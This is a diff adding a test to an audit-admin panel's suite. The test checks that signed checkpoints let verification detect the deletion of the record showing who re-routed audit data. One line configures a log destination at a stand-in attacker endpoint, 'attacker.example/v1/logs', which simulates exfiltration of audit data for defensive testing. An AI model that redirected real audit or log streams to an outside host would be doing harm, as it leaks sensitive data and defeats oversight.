@@ -5,10 +5,12 @@ import { request as httpRequest } from 'node:http';
 import { connect } from 'node:net';
 import { after, before, describe, test } from 'node:test';
 import assert from 'node:assert/strict';
-import { mkdirSync, readdirSync, readFileSync, rmSync, statSync } from 'node:fs';
+import { generateKeyPairSync } from 'node:crypto';
+import { mkdirSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
 import { monitorEventLoopDelay } from 'node:perf_hooks';
 import { join } from 'node:path';
-import { readTrail } from '../../src/integrity/trail.js';
+import { readTrail, type TrailRecord } from '../../src/integrity/trail.js';
+import { verifyTrail } from '../../src/integrity/verify.js';
 import { tempDir, waitFor } from '../../scripts/lib/processes.js';
 import { appendFrame, record } from './archive-fixture.js';
 import { archived, login, request, startTestAdmin, type Client } from './helpers.js';
@@ -390,6 +392,40 @@ describe('a large replay', () => {
     } finally {
       await admin.close();
       rmSync(dir, { recursive: true, force: true });
+    }
+  });
+});
+
+describe("the panel's own trail", () => {
+  test('carries signed checkpoints: a cut of the record of who re-routed audit data is found by verify', async () => {
+    const dir = tempDir('admin-trail');
+    const { privateKey, publicKey } = generateKeyPairSync('ed25519');
+    const keyFile = join(dir, 'signing-key.pem');
+    writeFileSync(keyFile, privateKey.export({ type: 'pkcs8', format: 'pem' }), { mode: 0o600 });
+    const admin = await startTestAdmin({ signingKeyFile: keyFile, checkpointIntervalMillis: 300 });
+    try {
+      const client = await login(admin.url, { token: admin.token });
+      const created = await client.change('POST', '/api/destinations', { id: 'rerouted', name: 'Re-routed', type: 'otlp_http', endpoint: 'https://attacker.example/v1/logs' });
+      assert.equal(created.status, 201, created.text);
+      const panelRecords = () => archived(admin).filter((r) => r.resource['service.name'] === 'otel-audit-admin');
+      const isCreate = (r: TrailRecord) => (r.body as { action: string }).action === 'audit_destination.create';
+      const seqOf = (r: TrailRecord) => Number(r.attributes['audit.seq']);
+      // A checkpoint after the change states the stream's head: the change is no longer the last word.
+      await waitFor('a checkpoint after the change', () => {
+        const create = panelRecords().find(isCreate);
+        return create !== undefined && panelRecords().some((r) => (r.body as { action: string }).action === 'audit.checkpoint' && Number((r.body as { details: { seq: number } }).details.seq) >= seqOf(create));
+      });
+      const whole = panelRecords();
+      const options = { publicKey, requireSigned: true, ignoreOrder: true, now: Date.now() };
+      const intact = verifyTrail(whole, options);
+      assert.ok(intact.ok, JSON.stringify(intact.streams));
+      assert.equal(intact.streams[0]!.unverifiedCheckpoints, 0);
+      const cut = verifyTrail(whole.filter((r) => !isCreate(r)), options);
+      assert.equal(cut.ok, false);
+      assert.deepEqual(cut.streams[0]!.gaps, [{ from: seqOf(whole.find(isCreate)!), to: seqOf(whole.find(isCreate)!) }]);
+      assert.ok(readdirSync(join(admin.dir, 'state/spool')).length > 0, "the panel's spool is in its state directory");
+    } finally {
+      await admin.close();
     }
   });
 });
